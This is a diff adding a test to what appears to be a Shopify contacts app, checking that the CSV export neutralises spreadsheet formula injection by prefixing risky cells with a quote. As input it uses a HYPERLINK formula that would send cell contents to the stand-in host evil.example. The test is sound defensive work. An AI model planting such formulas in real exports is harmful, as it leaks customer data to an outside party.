@@ -91,6 +91,32 @@ async def test_export_returns_every_contact_of_the_shop_only(container):
     assert sorted(r["phone"] for r in rows) == ["+14155550100", "+14155550101", "+14155550102"]
 
 
+async def test_export_cells_a_spreadsheet_would_run_as_formulas_are_kept_as_text(container):
+    # Shoppers choose their own names in Shopify; merchants open the export in a spreadsheet.
+    shop = await add_shop(container)
+    formula = '=HYPERLINK("https://evil.example/?"&A2,"Click")'
+    async with client(create_app(container)) as http:
+        created = await http.post(
+            "/api/v1/contacts",
+            headers=_auth(shop),
+            json={
+                "phone": "+14155550100",
+                "first_name": formula,
+                "last_name": "@SUM(1+1)",
+                "email": "=1+1@example.com",
+            },
+        )
+        exported = await http.get("/api/v1/contacts/export", headers=_auth(shop))
+    assert created.status_code == 201, created.text
+    [row] = list(csv.DictReader(io.StringIO(exported.text)))
+    assert (row["first_name"], row["last_name"], row["email"]) == (
+        "'" + formula,
+        "'@SUM(1+1)",
+        "'=1+1@example.com",
+    )
+    assert row["phone"] == "+14155550100", "a normalized number is no formula: left as it is"
+
+
 async def test_cli_import_shows_progress_and_failed_lines(
     container, database_url, data_dir, tmp_path
 ):
